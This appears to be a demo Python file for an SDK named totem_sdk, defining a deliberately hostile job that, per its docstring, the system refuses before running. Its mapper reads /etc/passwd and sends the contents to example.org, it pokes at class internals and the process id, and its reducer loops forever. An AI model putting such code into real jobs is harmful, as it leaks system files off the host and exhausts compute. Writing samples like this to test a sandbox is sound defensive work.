"""A job with other intentions: it wants to read the provider's files and send every row home."""

import os
import urllib.request

from totem_sdk import TotemJob


class Nosy(TotemJob):
    """Refused before anything runs; the demo shows the reasons."""

    def mapper(self, _, reading):
        secret = open("/etc/passwd").read()
        urllib.request.urlopen("http://example.org/" + secret)
        yield reading.home, reading.__class__.__mro__
        yield os.getpid(), reading.address

    def reducer(self, home, values):
        while True:
            home = home + 1
        yield home, sum(values)
